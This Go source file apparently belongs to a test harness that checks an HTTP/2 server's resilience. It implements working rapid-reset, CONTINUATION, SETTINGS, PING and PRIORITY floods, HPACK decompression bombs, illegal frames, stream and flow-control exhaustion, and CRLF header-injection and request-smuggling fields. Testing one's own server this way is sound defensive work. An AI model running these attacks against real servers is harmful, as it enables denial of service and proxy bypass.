package attacks

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Frames is a connection that sends HTTP/2 frame by frame. Frames from the target are read and counted.
type Frames struct {
	*http2.Framer
	Conn     net.Conn
	Seen     map[http2.FrameType]int    // number of frames by type; read it after Done
	Settings map[http2.SettingID]uint32 // of the target; read it after Done
	Over     chan struct{}              // closed when the target has ended a stream or sent GOAWAY
	Done     chan struct{}              // closed when the target has closed the connection
}

// Speak connects to the target and sends the preface.
func Speak(ctx context.Context, to Target) (*Frames, error) {
	c, err := to.Dial(ctx)
	if err != nil {
		return nil, err
	}
	f := &Frames{
		Framer: http2.NewFramer(c, c), Conn: c, Seen: map[http2.FrameType]int{}, Settings: map[http2.SettingID]uint32{},
		Over: make(chan struct{}), Done: make(chan struct{}),
	}
	_, err = io.WriteString(c, http2.ClientPreface)
	if err = errors.Join(err, f.WriteSettings()); err != nil {
		_ = c.Close()
		return nil, err
	}
	go f.read()
	return f, nil
}

func (f *Frames) read() {
	defer close(f.Done)
	over := sync.OnceFunc(func() { close(f.Over) })
	defer over()
	for {
		frame, err := f.ReadFrame()
		if err != nil {
			return
		}
		h := frame.Header()
		f.Seen[h.Type]++
		if s, ok := frame.(*http2.SettingsFrame); ok {
			_ = s.ForeachSetting(func(s http2.Setting) error { f.Settings[s.ID] = s.Val; return nil })
		}
		if h.Type == http2.FrameRSTStream || h.Type == http2.FrameGoAway || h.Type == http2.FrameHeaders && h.Flags.Has(http2.FlagHeadersEndStream) ||
			h.Type == http2.FrameData && h.Flags.Has(http2.FlagDataEndStream) {
			over()
		}
	}
}

// Pour writes b, until the target stops reading, and waits until the target has closed the connection.
func (f *Frames) Pour(b *bytes.Buffer) {
	_, _ = b.WriteTo(f.Conn)
	f.Hang()
}

// pour writes frames on a new connection, see [Frames.Pour].
func pour(ctx context.Context, to Target, write func(w *http2.Framer)) error {
	f, err := Speak(ctx, to)
	if err != nil {
		return err
	}
	f.Pour(frames(write))
	return nil
}

// flood writes frames on a new connection, waits until the target has ended a request or up fires, and closes the
// connection.
func flood(ctx context.Context, to Target, up <-chan time.Time, write func(w *http2.Framer)) error {
	f, err := Speak(ctx, to)
	if err != nil {
		return err
	}
	defer f.Leave()
	_, _ = frames(write).WriteTo(f.Conn)
	select {
	case <-f.Over:
	case <-up:
	}
	return nil
}

func frames(write func(w *http2.Framer)) *bytes.Buffer {
	var many bytes.Buffer
	write(http2.NewFramer(&many, nil)) // cannot fail
	return &many
}

// Hang closes the direction to the target and waits until the target has closed the connection.
func (f *Frames) Hang() {
	closeWrite(f.Conn)
	<-f.Done
	_ = f.Conn.Close()
}

// Leave closes the connection at once.
func (f *Frames) Leave() {
	_ = f.Conn.Close()
	<-f.Done
}

// Block returns the header block of a request to the target with the API key, and additional fields, name and value
// alternating.
func (to Target) Block(key string, more ...string) []byte {
	method := to.Method
	if method == "" {
		method = "GET"
	}
	all := []string{":method", method, ":scheme", "http", ":path", to.path(), ":authority", "a"}
	all = append(append(all, to.Fields...), "x-api-key", key)
	return HeaderBlock(append(all, more...)...)
}

// HeaderBlock returns a header block, name and value alternating.
func HeaderBlock(fields ...string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for i := 0; i < len(fields); i += 2 {
		_ = e.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}) // to a buffer, which cannot fail
	}
	return b.Bytes()
}

// HTTP2 lists attacks on an HTTP/2 server. Each sends its name as the API key.
func HTTP2() []Attack {
	return []Attack{
		{"resets", Resets},
		{"endless headers", EndlessHeaders},
		{"settings", SettingsFlood},
		{"pings", PingFlood},
		{"header lists", HeaderLists},
		{"odd frames", OddFrames},
		{"odd fields", OddFields},
		{"odd paths", OddPaths},
		{"bodies", Bodies},
		{"streams", Streams},
		{"closed windows", ClosedWindows},
		{"priorities", PriorityFlood},
	}
}

// Resets starts requests and cancels them at once (10,000 on each of 4 connections).
func Resets(ctx context.Context, to Target) error {
	block, body := to.Block("resets"), []byte{0, 0, 0, 0, 0} // an empty gRPC message
	for range 4 {
		if err := pour(ctx, to, func(w *http2.Framer) {
			for i := range to.times(10_000) {
				id := uint32(2*i + 1)
				_ = w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: i%2 == 0})
				if i%4 == 1 {
					_ = w.WriteData(id, true, body)
				}
				_ = w.WriteRSTStream(id, http2.ErrCodeCancel)
			}
		}); err != nil {
			return err
		}
	}
	return nil
}

// EndlessHeaders never ends the headers of a request, with fields and with empty frames. It returns an error if the
// target accepts 100,000 frames of fields.
func EndlessHeaders(ctx context.Context, to Target) error {
	field := HeaderBlock("x-more", strings.Repeat("y", 4000))
	sent, taken, err := continuations(ctx, to, field, 100_000)
	if err == nil && taken {
		err = fmt.Errorf("attacks: %d frames of one header block were accepted", sent)
	}
	if err == nil {
		_, _, err = continuations(ctx, to, nil, to.times(100_000))
	}
	return err
}

// continuations sends the start of a header block and then up to most frames with a part of it, and reports whether the
// target accepted them all.
func continuations(ctx context.Context, to Target, part []byte, most int) (sent int, taken bool, err error) {
	f, err := Speak(ctx, to)
	if err != nil {
		return 0, false, err
	}
	defer f.Leave()
	refused := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: to.Block("endless")})
	for ; refused == nil && sent < most; sent++ {
		refused = f.WriteContinuation(1, false, part)
	}
	return sent, refused == nil, nil
}

// SettingsFlood changes the settings 100,000 times.
func SettingsFlood(ctx context.Context, to Target) error {
	return pour(ctx, to, func(w *http2.Framer) {
		for range to.times(100_000) {
			_ = w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1}, http2.Setting{ID: http2.SettingHeaderTableSize, Val: 0})
		}
	})
}

// PingFlood sends 100,000 pings, and 200,000 on a connection that is never read.
func PingFlood(ctx context.Context, to Target) error {
	pings := func(w *http2.Framer, n int) {
		for range n {
			_ = w.WritePing(false, [8]byte{})
		}
	}
	if err := pour(ctx, to, func(w *http2.Framer) { pings(w, to.times(100_000)) }); err != nil {
		return err
	}
	c, err := to.Dial(ctx)
	if err != nil {
		return err
	}
	defer c.Close()
	_, _ = io.WriteString(c, http2.ClientPreface)
	_ = c.SetWriteDeadline(time.Now().Add(time.Second))
	_, _ = frames(func(w *http2.Framer) {
		_ = w.WriteSettings()
		pings(w, to.times(200_000))
	}).WriteTo(c)
	return nil
}

// PriorityFlood sends 100,000 PRIORITY frames for streams that do not exist.
func PriorityFlood(ctx context.Context, to Target) error {
	return pour(ctx, to, func(w *http2.Framer) {
		for i := range to.times(100_000) {
			_ = w.WritePriority(uint32(2*i+1), http2.PriorityParam{StreamDep: uint32(2*i + 3), Weight: 1})
		}
	})
}

// HeaderLists sends header lists that are small on the wire and 30 MB when decoded (50 times).
func HeaderLists(ctx context.Context, to Target) error {
	block := to.Block("lists", "x-large", strings.Repeat("x", 3000))
	block = append(block, bytes.Repeat([]byte{0xbe}, 10_000)...) // the last field, repeated
	for range to.times(50) {
		if err := request(ctx, to, block); err != nil {
			return err
		}
	}
	return nil
}

// request sends a request on a new connection and waits until the target has ended it.
func request(ctx context.Context, to Target, block []byte) error {
	f, err := Speak(ctx, to)
	if err != nil {
		return err
	}
	defer f.Leave()
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndHeaders: true, EndStream: true}); err != nil {
		return nil //nolint:nilerr // the target has closed the connection
	}
	<-f.Over
	return nil
}

// OddFrames sends valid frames where they are not permitted, and invalid settings.
func OddFrames(ctx context.Context, to Target) error {
	for _, send := range []func(f *Frames) error{
		func(f *Frames) error { return f.WriteData(7, true, []byte("x")) },
		func(f *Frames) error {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2, BlockFragment: to.Block("odd"), EndHeaders: true, EndStream: true})
		},
		func(f *Frames) error { return f.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 0}) },
		func(f *Frames) error { return f.WriteWindowUpdate(0, 0) },
		func(f *Frames) error { return f.WriteWindowUpdate(0, 1<<31-1) },
		func(f *Frames) error { return f.WriteContinuation(1, true, nil) },
		func(f *Frames) error { return f.WriteRawFrame(99, 0xff, 1, []byte("x")) },
		func(f *Frames) error { return f.WriteRawFrame(http2.FrameData, 0, 1, make([]byte, 1<<20)) },
		func(f *Frames) error {
			return f.WritePushPromise(http2.PushPromiseParam{StreamID: 1, PromiseID: 2, BlockFragment: to.Block("odd"), EndHeaders: true})
		},
		func(f *Frames) error {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0xff}, EndHeaders: true})
		},
	} {
		f, err := Speak(ctx, to)
		if err != nil {
			return err
		}
		f.AllowIllegalWrites = true
		_ = send(f) // the target may close the connection before everything is sent
		f.Hang()
	}
	return nil
}

// OddFields sends fields that a proxy to HTTP/1 could turn into another request.
func OddFields(ctx context.Context, to Target) error {
	for _, more := range [][]string{
		{"transfer-encoding", "chunked"},
		{"connection", "x-api-key"},
		{"x: y\r\nx-api-key", "other"},
		{"x-a", "b\r\nX-Api-Key: other"},
		{"X-Upper", "a"},
		{":path", "/probe"},
		{":authority", "b"},
		{"host", "b"},
		{"content-length", "5"},
		{"te", "gzip"},
		{"upgrade", "websocket"},
		{":protocol", "websocket"},
		{"trailer", "content-length"},
		{"trailer", "a b"},
		{"x a", "b"},
		{"x\x00", "b"},
		{"", "b"},
	} {
		if err := request(ctx, to, to.Block("fields", more...)); err != nil {
			return err
		}
	}
	return nil
}

// OddPaths sends invalid paths, and paths that servers parse differently.
func OddPaths(ctx context.Context, to Target) error {
	for _, path := range []string{"flood", "*", "http://b/flood", "/x/../flood", "//flood", "/flood#", "/fl%6fod", " /flood", "/flood HTTP/1.1\r\nX: y", ""} {
		if err := request(ctx, to, HeaderBlock(":method", "GET", ":scheme", "http", ":path", path, ":authority", "a", "x-api-key", "paths")); err != nil {
			return err
		}
	}
	return nil
}

// Bodies sends bodies above the limit, in gRPC messages that announce 4 GB (50 times).
func Bodies(ctx context.Context, to Target) error {
	for range to.times(50) {
		if err := flood(ctx, to, nil, func(w *http2.Framer) {
			_ = w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: to.Block("bodies", "content-type", "application/grpc"), EndHeaders: true})
			_ = w.WriteData(1, false, []byte("\x00\xff\xff\xff\xff"))
			for range 40 {
				_ = w.WriteData(1, false, make([]byte, 16<<10))
			}
		}); err != nil {
			return err
		}
	}
	return nil
}

// Streams starts more concurrent requests than permitted, whose bodies never arrive (10,000 on each of 4 connections),
// until the first is rejected.
func Streams(ctx context.Context, to Target) error {
	for range 4 {
		if err := flood(ctx, to, nil, func(w *http2.Framer) {
			for i := range to.times(10_000) {
				_ = w.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: to.Block("streams"), EndHeaders: true})
			}
		}); err != nil {
			return err
		}
	}
	return nil
}

// ClosedWindows sends 100 requests with flow-control windows of 0, waits for a second, and closes the connection: no
// response can end without a window.
func ClosedWindows(ctx context.Context, to Target) error {
	return flood(ctx, to, time.After(time.Second), func(w *http2.Framer) {
		_ = w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		for i := range to.times(100) {
			_ = w.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: to.Block("windows"), EndHeaders: true, EndStream: true})
		}
	})
}
